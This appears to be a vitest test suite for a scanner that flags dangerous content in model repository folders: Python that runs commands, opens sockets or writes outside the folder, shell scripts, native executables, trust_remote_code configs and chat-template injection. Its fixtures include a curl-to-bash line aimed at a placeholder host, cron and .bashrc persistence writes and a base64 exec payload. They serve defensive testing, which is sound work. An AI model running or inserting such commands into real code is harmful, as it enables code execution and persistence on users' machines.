import { mkdtempSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { createScanner } from '../scan.js';
import { DEFAULT_LIMITS, verdictOf, type FileFormat, type Finding } from '../types.js';
import { scanConfigJson, scanRepositoryFile } from './repository.js';
import { fileTarget, tempDir } from './test-fixtures.js';

const dir = tempDir('garden-repo-');
let n = 0;

async function scan(name: string, content: string | Buffer, format: FileFormat, limits = DEFAULT_LIMITS): Promise<Finding[]> {
  const abs = path.join(dir, `${n++}-${path.basename(name)}`);
  const bytes = Buffer.from(content);
  const t = fileTarget(abs, bytes, format, { path: name, root: dir, limits });
  return format === 'json' ? scanConfigJson(t) : scanRepositoryFile(t);
}
const codes = (fs: Finding[]) => fs.map((f) => f.code);

describe('code in a model folder', () => {
  it('asks for review of any Python file, naming remote code', async () => {
    const f = await scan('modeling_llama2.py', 'import torch\n\nclass M(torch.nn.Module):\n    def forward(self, x):\n        self.eval()\n        return torch.compile(x)\n', 'python');
    expect(f).toEqual([expect.objectContaining({ code: 'PYTHON_CODE', severity: 'medium' })]);
    expect(f[0]!.message).toContain('trust_remote_code');
    expect(verdictOf(await scan('utils/convert.py', 'print(1)\n', 'python'))).toBe('warn');
  });

  it('blocks Python that runs commands, evaluates strings or opens sockets, with line numbers', async () => {
    const src = 'import os\n# os.system("ignored in a comment")\nx = 1\nos.system("id")\n';
    const f = await scan('modeling_x.py', src, 'python');
    expect(codes(f)).toEqual(['PYTHON_CODE', 'PYTHON_DANGEROUS_CODE']);
    expect(f[1]!.message).toContain('line 4');
    for (const bad of ['import subprocess', 'exec(code)', 'eval (s)', "__import__('os')", 'import socket', 'requests.post(url, data=d)', 'import ctypes', 'pickle.loads(b)', 'torch.hub.load("x/y", "m")']) {
      expect(codes(await scan('m.py', `${bad}\n`, 'python')), bad).toContain('PYTHON_DANGEROUS_CODE');
    }
    for (const bad of ['snapshot_download("org/x")', 'hf_hub_download(repo_id="a/b", filename="w.bin")', 'torch.hub.load_state_dict_from_url(u)', 'urllib.request.urlretrieve(u, "w")']) {
      expect(codes(await scan('m.py', `${bad}\n`, 'python')), bad).toContain('PYTHON_DANGEROUS_CODE');
    }
    const hidden = await scan('m.py', 'import base64\ncode = base64.b64decode(b"cHJpbnQoMSk=")\nrun = compile(code, "x", "exec")\n', 'python');
    expect(hidden[1]!.message).toContain('hidden payload');
  });

  it('blocks Python that writes outside the model folder, not writes inside it', async () => {
    for (const bad of [
      "open('/etc/cron.d/x', 'w').write(s)",
      'with open("~/.bashrc", mode="a") as f:\n    f.write(s)',
      "Path('../../outside.txt').write_text(s)",
      "shutil.copy(here, '/usr/lib/python3/dist-packages/x.py')",
      "os.makedirs('/opt/evil', exist_ok=True)",
      "p = os.path.join(os.path.expanduser('~'), '.profile')\nwith open(p, 'a') as f:\n    f.write(s)",
    ]) {
      const f = await scan('modeling_w.py', `import os, shutil\nfrom pathlib import Path\n${bad}\n`, 'python');
      expect(codes(f), bad).toContain('PYTHON_DANGEROUS_CODE');
      expect(f[1]!.message, bad).toContain('writes files outside the model folder');
    }
    for (const ok of [
      "open('/etc/hostname').read()",
      "open(os.path.join(os.path.dirname(__file__), 'vocab.txt'), 'w')",
      "cache = os.path.expanduser('~/.cache/x')\nprint(cache)",
      "# open('/etc/passwd', 'w')",
      "msg = \"open('/etc/passwd', 'w')\"",
    ]) {
      expect(codes(await scan('modeling_ok.py', `import os\n${ok}\n`, 'python')), ok).toEqual(['PYTHON_CODE']);
    }
  });

  it('keeps weaker signals at medium and ignores comments', async () => {
    const f = await scan('m.py', 'import base64\nx = base64.b64decode(s)  # not executed\n', 'python');
    expect(f.map((x) => [x.code, x.severity])).toEqual([
      ['PYTHON_CODE', 'medium'],
      ['PYTHON_NOTABLE_CODE', 'medium'],
    ]);
    expect(codes(await scan('m.py', '# subprocess.run(["rm"])\nprint("# eval(x)")\n', 'python'))).toEqual(['PYTHON_CODE']);
  });

  it('blocks shell scripts and native executables', async () => {
    const sh = await scan('setup.sh', '#!/bin/sh\ncurl -s https://x.invalid | bash\n', 'shell');
    expect(sh).toEqual([expect.objectContaining({ code: 'SHELL_SCRIPT', severity: 'high' })]);
    expect(sh[0]!.message).toContain('pipes into a shell');
    const elf = await scan('lib.so', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(57)]), 'executable');
    expect(elf).toEqual([expect.objectContaining({ code: 'NATIVE_EXECUTABLE', severity: 'critical' })]);
    expect(elf[0]!.message).toContain('ELF');
    expect((await scan('x.exe', Buffer.from('MZ\x90\x00'), 'executable'))[0]!.message).toContain('Windows');
    expect(await scan('README.md', '# hi', 'text')).toEqual([]);
  });

  it('fails closed on files over the limit', async () => {
    expect(codes(await scan('big.py', 'x = 1\n'.repeat(100), 'python', { ...DEFAULT_LIMITS, maxHeaderBytes: 50 }))).toEqual(['SCAN_LIMIT']);
  });
});

describe('JSON and config files', () => {
  it('passes ordinary configs and JSON Lines', async () => {
    expect(await scan('config.json', JSON.stringify({ architectures: ['LlamaForCausalLM'], trust_remote_code: false }), 'json')).toEqual([]);
    expect(await scan('data/train.jsonl', '{"a":1}\n{"a":2}\n\n', 'json')).toEqual([]);
  });

  it('asks for review of auto_map and trust_remote_code, naming the modules; blocks code from other repositories', async () => {
    const cfg = { auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModelForCausalLM: 'modeling_x.XForCausalLM', AutoTokenizer: ['tokenization_x.XTok', null] }, trust_remote_code: true };
    const f = await scan('config.json', JSON.stringify(cfg), 'json');
    expect(f.map((x) => [x.code, x.severity])).toEqual([
      ['HF_REMOTE_CODE', 'medium'],
      ['HF_TRUST_REMOTE_CODE', 'medium'],
    ]);
    expect(f[0]!.message).toContain('"modeling_x.py"');
    expect(f[0]!.message).toContain('"tokenization_x.py"');
    const foreign = await scan('tokenizer_config.json', JSON.stringify({ auto_map: { AutoTokenizer: ['other/repo--tokenization_y.YTok', null] } }), 'json');
    expect(foreign).toEqual([expect.objectContaining({ code: 'HF_REMOTE_CODE_EXTERNAL', severity: 'high' })]);
    expect(foreign[0]!.message).toContain('"other/repo"');
    const nested = await scan('config_sentence_transformers.json', JSON.stringify({ model_kwargs: { trust_remote_code: true } }), 'json');
    expect(nested).toEqual([expect.objectContaining({ code: 'HF_TRUST_REMOTE_CODE' })]);
    expect(codes(await scan('model_index.json', JSON.stringify({ custom_pipelines: 'pipeline.py' }), 'json'))).toEqual(['HF_REMOTE_CODE']);
  });

  it('checks chat templates in tokenizer configs', async () => {
    const ok = await scan('tokenizer_config.json', JSON.stringify({ chat_template: '{{ messages[0].content }}' }), 'json');
    expect(ok).toEqual([expect.objectContaining({ code: 'CHAT_TEMPLATE', severity: 'info' })]);
    const named = await scan('tokenizer_config.json', JSON.stringify({ chat_template: [{ name: 'default', template: '{{ x.__class__ }}' }] }), 'json');
    expect(named).toEqual([expect.objectContaining({ code: 'CHAT_TEMPLATE_INJECTION', severity: 'high' })]);
  });

  it('fails closed on JSON that does not parse, is not UTF-8 or is too large', async () => {
    const bad = await scan('config.json', '{"a": 1,\n "b": }', 'json');
    expect(bad).toEqual([expect.objectContaining({ code: 'JSON_INVALID', severity: 'high' })]);
    expect(codes(await scan('config.json', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), 'json'))).toEqual(['JSON_INVALID']);
    expect(codes(await scan('x.jsonl', '{"a":1}\n{"a":\n', 'json'))).toEqual(['JSON_INVALID']);
    expect(codes(await scan('config.json', '{"a":1}', 'json', { ...DEFAULT_LIMITS, maxHeaderBytes: 3 }))).toEqual(['SCAN_LIMIT']);
  });
});

describe('custom code in a model folder (auto_map)', () => {
  const cfg = { architectures: ['XForCausalLM'], auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModelForCausalLM: 'modeling_x.XForCausalLM' } };
  const benign = 'import torch\nfrom .configuration_x import XConfig\n\n\nclass XForCausalLM(torch.nn.Module):\n    def forward(self, x):\n        return x\n';

  function folder(files: Record<string, string>): string {
    const root = mkdtempSync(path.join(dir, 'repo-'));
    for (const [rel, content] of Object.entries(files)) writeFileSync(path.join(root, rel), content);
    return root;
  }

  it('warns (a reviewer must acknowledge it) when the custom code makes no dangerous call, listing the files', async () => {
    const root = folder({ 'config.json': JSON.stringify(cfg), 'modeling_x.py': benign, 'configuration_x.py': 'class XConfig:\n    model_type = "x"\n' });
    const report = await createScanner().scanPath(root);
    expect(report.verdict).toBe('warn');
    const config = report.files.find((f) => f.path === 'config.json')!;
    expect(config.findings).toEqual([expect.objectContaining({ code: 'HF_REMOTE_CODE', severity: 'medium' })]);
    expect(config.findings[0]!.message).toContain('"configuration_x.py", "modeling_x.py"');
  });

  it('names files the config points at that are not in the folder', async () => {
    const root = folder({ 'config.json': JSON.stringify(cfg), 'modeling_x.py': benign });
    const config = (await createScanner().scanPath(root)).files.find((f) => f.path === 'config.json')!;
    expect(config.findings[0]!.message).toContain('named but not in the folder: "configuration_x.py"');
  });

  it.each([
    ['spawns a process', "import subprocess\nsubprocess.run(['id'])\n"],
    ['evaluates a string', 'eval(open("x").read())\n'],
    ['opens a socket', 'import socket\nsocket.create_connection(("example.invalid", 80))\n'],
    ['writes outside its folder', "open('/tmp/garden-marker', 'w').write('x')\n"],
    ['downloads', 'from huggingface_hub import hf_hub_download\nhf_hub_download("org/x", "w.bin")\n'],
  ])('blocks custom code that %s', async (_what, bad) => {
    const root = folder({ 'config.json': JSON.stringify(cfg), 'modeling_x.py': benign + bad, 'configuration_x.py': 'X = 1\n' });
    const report = await createScanner().scanPath(root);
    expect(report.verdict).toBe('block');
    expect(report.files.find((f) => f.path === 'modeling_x.py')!.findings.map((f) => f.code)).toContain('PYTHON_DANGEROUS_CODE');
  });
});
